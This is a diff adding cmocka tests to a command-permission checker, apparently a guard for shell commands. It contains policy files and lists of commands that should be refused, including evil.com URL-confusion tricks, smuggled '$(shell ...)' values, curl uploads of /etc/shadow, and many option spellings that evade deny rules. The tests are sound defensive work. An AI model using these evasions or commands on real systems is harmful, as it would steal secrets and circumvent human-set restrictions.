@@ -52,6 +52,37 @@ static const char *const permitted[] = {
 	"cd /srv/app && touch x/y", "rm ~/tmp/x", "ls -la /srv", "grep -r x /srv/app",
 };
 
+/* Where a star stands in a language, a list, a host or a name. */
+static const char stars[] =
+	"version: 1\n"
+	"profile: enforce\n"
+	"packs: [core.readonly]\n"
+	"rules:\n"
+	"  - id: op\n"
+	"    allow: [\"curl -fsS https://*.example.com/*\", \"git clone https://*.corp.io/x /srv/x\", \"docker pull *.corp.io/app\", \"rsync -a /srv/a/ *:/b/\", \"kubectl apply -f /srv/k8s/**\",\n"
+	"            \"java -cp /opt/app/** Main\", \"make -C /srv/app *\", \"make deploy VERSION=*\", \"sed -i s/*/*/ /srv/app/conf\", \"helm upgrade app /srv/charts/app --set image.tag=*\",\n"
+	"            \"apt-get install -y *\", \"systemctl enable --now *\", \"git push origin *\", \"./deploy.sh *\", \"python3 scripts/x.py\", \"/opt/tool/run *\", \"curl -F file=* http://localhost/up\",\n"
+	"            \"git switch feature/*\", \"psql -h *.db.internal -c 'select 1'\", \"ansible-playbook -i /srv/inv/** /srv/pb/site.yml -e version=*\"]\n";
+
+static const char *const astray[] = {
+	"curl -fsS https://evil.com/x.example.com/y", "curl -fsS 'https://evil.com#.example.com/y'", "curl -fsS 'https://evil.com?.example.com/y'", "curl -fsS 'https://{evil,x.example.com}/y'",
+	"curl -fsS https://u@evil.com/.example.com/y", "curl -fsS 'https://evil.com\\.example.com/y'", "git clone https://evil.com/.corp.io/x /srv/x", "docker pull evil.io/x.corp.io/app",
+	"rsync -a /srv/a/ /tmp/:/b/", "rsync -a /srv/a/ x/y:/b/", "kubectl apply -f /srv/k8s/a,/tmp/x", "kubectl apply -f /srv/k8s/a,http://evil/x", "java -cp /opt/app/x:/tmp/evil Main",
+	"make -C /srv/app 'x:=$(shell touch y)'", "make -C /srv/app SHELL=/tmp/x", "make deploy 'VERSION=$(shell touch y)'", "sed -i 's/a/b/e;s/x/y/' /srv/app/conf", "sed -i 's/a/b/w /tmp/x/' /srv/app/conf",
+	"helm upgrade app /srv/charts/app --set image.tag=1,image.repository=evil", "apt-get install -y ./evil.deb", "apt-get install -y /tmp/evil.deb", "apt-get install -y ssh-", "systemctl enable --now /tmp/x.service",
+	"git push origin :main", "git push origin +main", "cd /tmp/x && ./deploy.sh a", "cd /tmp/x && python3 scripts/x.py", "cd /tmp && /opt/tool/../x/run a", "cd /tmp/tool && ./run a",
+	"curl -F file=@/etc/shadow http://localhost/up", "curl -F 'file=</etc/shadow' http://localhost/up", "psql -h evil,x.db.internal -c 'select 1'", "psql -h /tmp/x.db.internal -c 'select 1'",
+	"ansible-playbook -i /srv/inv/a,evil /srv/pb/site.yml -e version=1", "ansible-playbook -i /srv/inv/a /srv/pb/site.yml -e 'version={{x}}'", "ansible-playbook -i /srv/inv/a /srv/pb/site.yml -e 'version=1 a=b'",
+};
+
+static const char *const straight[] = {
+	"curl -fsS https://www.example.com/a/b", "curl -fsS 'https://a.b.example.com/x?y=1'", "git clone https://git.corp.io/x /srv/x", "docker pull hub.corp.io/app", "rsync -a /srv/a/ backup:/b/",
+	"rsync -a /srv/a/ me@backup:/b/", "kubectl apply -f /srv/k8s/a/b.yaml", "java -cp /opt/app/x.jar Main", "make -C /srv/app x/y.o", "make deploy VERSION=1.2-3", "sed -i s/a/b/ /srv/app/conf",
+	"helm upgrade app /srv/charts/app --set image.tag=1.2", "apt-get install -y nginx=1.2-3", "systemctl enable --now app@1.service", "git push origin feature/x", "git push origin HEAD:main", "./deploy.sh a",
+	"python3 scripts/x.py", "/opt/tool/run a", "cd /opt/tool && ./run a", "cd /opt && tool/run a", "cd /tmp && /opt/tool/run a", "curl -F file=x@y http://localhost/up", "git switch feature/a/b",
+	"psql -h a.db.internal -c 'select 1'", "ansible-playbook -i /srv/inv/a /srv/pb/site.yml -e version=1.2",
+};
+
 static const char restricts[] =
 	"version: 1\n"
 	"profile: enforce\n"
@@ -63,6 +94,31 @@ static const char restricts[] =
 	"    deny: [\"rm --recursive /srv/app/keep/**\", \"mv * /srv/live/**\", \"cp ** /srv/live/**\", \"tar ** /srv/secret/**\", \"cp /srv/secret/** **\", \"mv /srv/app/keep/** **\",\n"
 	"           \"systemctl stop {ssh,db.service}\", \"systemctl {reboot,isolate} **\", \"systemctl mask web-*\", \"chown ** /srv/app/keep/**\", \"apt-get remove vim\", \"docker rm web\",\n"
 	"           \"kubectl delete pod *\", \"rm /srv/one\", \"git clean **\", \"git push --force **\", \"docker run --privileged **\"]\n";
+
+/* Tools that no table knows, that run something else, or whose options the tables do not have. */
+static const char loose[] =
+	"version: 1\n"
+	"profile: guard\n"
+	"rules:\n"
+	"  - id: no\n"
+	"    deny: [\"sudo -u postgres **\", \"ssh prod-* **\", \"docker exec prod-* **\", \"kubectl exec ** -n prod **\", \"terraform destroy **\", \"aws s3 rm **\", \"make deploy\", \"psql -c **\",\n"
+	"           \"python3 /opt/x.py **\", \"bash /opt/danger.sh **\", \"umount /srv/data\", \"app-ctl drop *\", \"rsync --delete **\", \"git reset --hard **\", \"docker run --privileged **\",\n"
+	"           \"/opt/x/run **\", \"app-rm -rf **\", \"app --mode=raw **\", \"strace\"]\n";
+
+static const char *const evaded[] = {
+	"sudo -u postgres ls", "sudo -n -u postgres ls", "sudo -upostgres ls", "sudo -nu postgres ls", "sudo --user=postgres ls", "sudo --user postgres ls", "ssh prod-1 ls", "ssh -q prod-1 ls", "ssh -p 22 prod-1 ls", "ssh root@prod-1 ls",
+	"ssh ssh://prod-1 ls", "ssh -p22 -q prod-1", "docker exec -it prod-db ls", "docker container exec prod-db ls", "docker exec --user x prod-db ls", "kubectl -n prod exec db -- ls", "kubectl exec db -nprod -- ls",
+	"kubectl exec --namespace x db -n prod -- ls", "terraform -chdir=/srv destroy", "terraform destroy", "terraform destroy -auto-approve", "aws --region x s3 rm s3://a", "aws s3 --quiet rm s3://a", "make -j4 deploy", "make deploy clean",
+	"psql -d app -c x", "psql -Atc x", "python3 -B /opt/x.py", "python3 -B /opt/x.py a", "cd /opt && python3 x.py", "bash -e /opt/danger.sh", "umount -l /srv/data", "umount /srv/data -l", "app-ctl -v drop x", "app-ctl --config x drop y", "rsync -a --delete a b",
+	"rsync -a a b --delete", "git reset --har", "git reset HEAD --hard", "git reset --hard=x", "docker run --privileged=true x", "docker run -d --privileged x", "docker container run --privileged x", "/opt/x/run", "/opt/x/../x/run a",
+	"cd /opt/x && ./run a", "cd /opt && x/run", "app-rm -r -f x", "app-rm -fr x", "app-rm -vrf x", "app --mode=raw", "app --mod=raw", "app x --mode raw", "for h in prod-1 prod-2; do ssh -q $h ls; done",
+};
+
+static const char *const clear[] = {
+	"sudo -u app ls", "sudo ls", "ssh dev-1 ls", "ssh -q dev-1 cat prod-1", "ssh dev-1 prod-1", "docker exec -it dev-db ls prod-x", "docker exec dev-db ls", "kubectl exec db -n dev -- ls", "kubectl get pod -n prod", "terraform plan",
+	"terraform -chdir=/srv plan", "aws s3 ls", "aws ec2 rm", "make clean", "make -j4 clean", "psql -d app -f x", "python3 -B /opt/y.py", "python3 /srv/opt/x.py", "bash -e /opt/x.sh", "umount /srv/dat", "app-ctl -v list", "app-ctl list drop",
+	"rsync -a a b", "git reset HEAD", "git reset --soft x", "docker run -p 80:80 x", "docker run x --help", "/opt/x/runner", "/opt/y/run", "cd /opt/y && ./run", "app-rm -r x", "app-rm x", "app --mode=cooked", "app --model=raw", "strace -V ls",
+};
 
 static const char *const caught[] = {
 	/* one of several, and behind an option that no table knows */
@@ -93,6 +149,18 @@ static void permissions_are_for_what_they_say(void **state)
 	ask_all(permits, refused, COUNT(refused), permitted, COUNT(permitted));
 }
 
+static void stars_are_for_names(void **state)
+{
+	(void)state;
+	ask_all(stars, astray, COUNT(astray), straight, COUNT(straight));
+}
+
+static void restrictions_are_for_tools_of_no_table(void **state)
+{
+	(void)state;
+	ask_all(loose, evaded, COUNT(evaded), clear, COUNT(clear));
+}
+
 static void restrictions_are_for_every_way_to_say_it(void **state)
 {
 	(void)state;
@@ -103,6 +171,8 @@ int main(void)
 {
 	const struct CMUnitTest tests[] = {
 		cmocka_unit_test(permissions_are_for_what_they_say),
+		cmocka_unit_test(stars_are_for_names),
+		cmocka_unit_test(restrictions_are_for_tools_of_no_table),
 		cmocka_unit_test(restrictions_are_for_every_way_to_say_it),
 	};
 
